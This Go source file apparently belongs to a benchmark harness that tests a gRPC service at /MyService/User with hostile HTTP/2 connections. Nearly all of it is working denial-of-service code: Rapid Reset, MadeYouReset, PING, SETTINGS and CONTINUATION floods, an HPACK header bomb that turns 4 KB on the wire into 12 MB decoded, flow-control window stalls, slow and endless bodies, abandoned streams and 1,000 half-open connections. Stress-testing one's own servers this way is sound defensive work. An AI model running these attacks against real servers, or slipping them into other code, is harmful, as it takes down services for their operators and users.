package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"example.com/roster/bench/internal/rawh2"
)

const path = "/MyService/User"

// An Attack is what one hostile connection does until it is cut or its time is
// up. Every loop below ends with the connection: Measure closes it.
type Attack struct {
	Key, Title string
	run        func(ctx context.Context, c *rawh2.Conn) error
	// silent attacks do not read what the server says.
	silent bool
	// hold waits for the end of the attack once run has returned without error.
	hold bool
	// settings are what the connection opens with.
	settings []http2.Setting
	// bare connections have sent no preface.
	bare bool
	// many opens this many connections in place of one.
	many int
}

// All returns every attack.
func All() []Attack {
	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	wide := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
	return []Attack{
		{Key: "rapid-reset", Title: "Rapid Reset: streams opened and reset at once", run: rapidReset},
		{Key: "made-you-reset", Title: "MadeYouReset: streams that the server is made to reset", run: madeYouReset},
		{Key: "ping-flood", Title: "PING flood, answers not read", run: pingFlood, silent: true},
		{Key: "settings-flood", Title: "SETTINGS flood, answers not read", run: settingsFlood, silent: true},
		{Key: "continuation-flood", Title: "CONTINUATION frames without end", run: continuationFlood},
		{Key: "empty-frames", Title: "empty DATA frames without end", run: emptyFrames},
		{Key: "header-bomb", Title: "headers that refer to the HPACK table thousands of times", run: headerBomb},
		{Key: "zero-window", Title: "large replies asked for, windows of zero", run: largeReplies, settings: zero, hold: true},
		{Key: "tiny-window", Title: "large replies asked for, one byte of window at a time", run: tinyWindow, settings: zero},
		{Key: "slow-reader", Title: "large replies asked for, the socket not read", run: largeReplies, settings: wide, silent: true, hold: true},
		{Key: "streams-left", Title: "streams opened and left", run: streamsLeft},
		{Key: "slow-body", Title: "bodies of 4 MB promised, a byte a second", run: slowBody},
		{Key: "endless-body", Title: "messages without end in one unary call", run: endlessBody},
		{Key: "half-open", Title: "1,000 connections that say half a preface", run: halfOpen, bare: true, silent: true, hold: true, many: 250},
	}
}

func rapidReset(ctx context.Context, c *rawh2.Conn) error {
	return forever(ctx, c, func() error {
		id, err := c.Open(path, true)
		if err != nil {
			return err
		}
		return c.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// madeYouReset breaks the rules on a stream whose request is complete, so that
// the server resets it while the handler is at work: a window that grows by
// nothing, DATA after the end, a dependency on itself, in turn.
func madeYouReset(ctx context.Context, c *rawh2.Conn) error {
	turn := 0
	return forever(ctx, c, func() error {
		id, err := c.Open(path, true)
		if err != nil {
			return err
		}
		turn++
		switch turn % 3 {
		case 0:
			return c.WriteWindowUpdate(id, 0)
		case 1:
			return c.WriteData(id, true, []byte{0})
		}
		return c.WritePriority(id, http2.PriorityParam{StreamDep: id})
	})
}

func pingFlood(ctx context.Context, c *rawh2.Conn) error {
	return forever(ctx, c, func() error { return c.WritePing(false, [8]byte{}) })
}

func settingsFlood(ctx context.Context, c *rawh2.Conn) error {
	return forever(ctx, c, func() error {
		return c.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384})
	})
}

func continuationFlood(ctx context.Context, c *rawh2.Conn) error {
	if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.Fields(path)}); err != nil {
		return err
	}
	// A literal field without indexing, over and over.
	fragment := []byte(strings.Repeat("\x00\x01a\x01b", 2000))
	return forever(ctx, c, func() error { return c.WriteContinuation(1, false, fragment) })
}

func emptyFrames(ctx context.Context, c *rawh2.Conn) error {
	id, err := c.Open(path, false)
	if err != nil {
		return err
	}
	return forever(ctx, c, func() error { return c.WriteData(id, false, nil) })
}

// headerBomb puts one field of 3 KB into the table and then names it 4,000
// times in each header: 4 KB on the wire, 12 MB once decoded.
func headerBomb(ctx context.Context, c *rawh2.Conn) error {
	id := uint32(1)
	header := c.Fields(path, hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3000)})
	references := []byte(strings.Repeat("\xbe", 4000)) // 62, the newest entry
	return forever(ctx, c, func() error {
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: append(header, references...), EndHeaders: true, EndStream: true})
		header, id = append([]byte(nil), c.Fields(path)...), id+2
		return err
	})
}

// largeReplies asks for 10,000 users, some 450 KB, on every stream there may be.
func largeReplies(_ context.Context, c *rawh2.Conn) error {
	request := manyIDs(10_000)
	for range 250 {
		id, err := c.Open(path, false)
		if err != nil {
			return err
		}
		for part := request; len(part) > 0; {
			n := min(len(part), 16384)
			if err := c.WriteData(id, n == len(part), part[:n]); err != nil {
				return err
			}
			part = part[n:]
		}
		if err := c.Flush(); err != nil {
			return err
		}
		// The window of the connection is the server's to give: 64 KB at first.
		time.Sleep(2 * time.Millisecond)
	}
	return nil
}

func tinyWindow(ctx context.Context, c *rawh2.Conn) error {
	request := manyIDs(1000)
	for range 100 {
		id, err := c.Open(path, false)
		if err != nil {
			return err
		}
		if err := c.WriteData(id, true, request); err != nil {
			return err
		}
	}
	id := uint32(1)
	return forever(ctx, c, func() error {
		id = (id + 2) % 200
		return c.WriteWindowUpdate(id|1, 1)
	})
}

func streamsLeft(ctx context.Context, c *rawh2.Conn) error {
	return forever(ctx, c, func() error {
		_, err := c.Open(path, false)
		return err
	})
}

func slowBody(ctx context.Context, c *rawh2.Conn) error {
	prefix := []byte{0, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(prefix[1:], 4<<20)
	var ids []uint32
	for range 250 {
		id, err := c.Open(path, false)
		if err != nil {
			return err
		}
		ids = append(ids, id)
		if err := c.WriteData(id, false, prefix); err != nil {
			return err
		}
	}
	for {
		for _, id := range ids {
			if err := c.WriteData(id, false, []byte{10}); err != nil {
				return err
			}
		}
		if err := c.Flush(); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return nil
		case <-time.After(time.Second):
		}
	}
}

// endlessBody sends messages of 16 KB in one call that takes one message.
func endlessBody(ctx context.Context, c *rawh2.Conn) error {
	id, err := c.Open(path, false)
	if err != nil {
		return err
	}
	message := make([]byte, 16379)
	binary.BigEndian.PutUint32(message[1:], uint32(len(message)-5))
	return forever(ctx, c, func() error { return c.WriteData(id, false, message) })
}

func halfOpen(_ context.Context, c *rawh2.Conn) error {
	_, err := c.Write([]byte(http2.ClientPreface[:12]))
	return err
}

// forever repeats a write until the time is up, and hands the network a few
// hundred at a time.
func forever(ctx context.Context, c *rawh2.Conn, write func() error) error {
	for n := 0; ; n++ {
		if n%256 == 0 {
			if err := ctx.Err(); err != nil {
				return nil
			}
			if err := c.Flush(); err != nil {
				return err
			}
		}
		if err := write(); err != nil {
			return fmt.Errorf("after %d: %w", n, err)
		}
	}
}
